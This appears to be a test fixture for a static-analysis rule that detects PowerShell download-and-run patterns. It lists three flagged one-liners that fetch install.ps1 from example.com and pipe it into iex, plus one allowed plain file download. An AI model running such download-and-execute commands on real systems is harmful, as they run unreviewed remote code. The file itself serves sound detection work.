# ruleid: powershell-download-and-run
iex (iwr https://example.com/install.ps1)
# ruleid: powershell-download-and-run
Invoke-RestMethod https://example.com/install.ps1 | iex
# ruleid: powershell-download-and-run
iex ((New-Object System.Net.WebClient).DownloadString('https://example.com/install.ps1'))
# ok: powershell-download-and-run
Invoke-WebRequest https://example.com/data.json -OutFile data.json
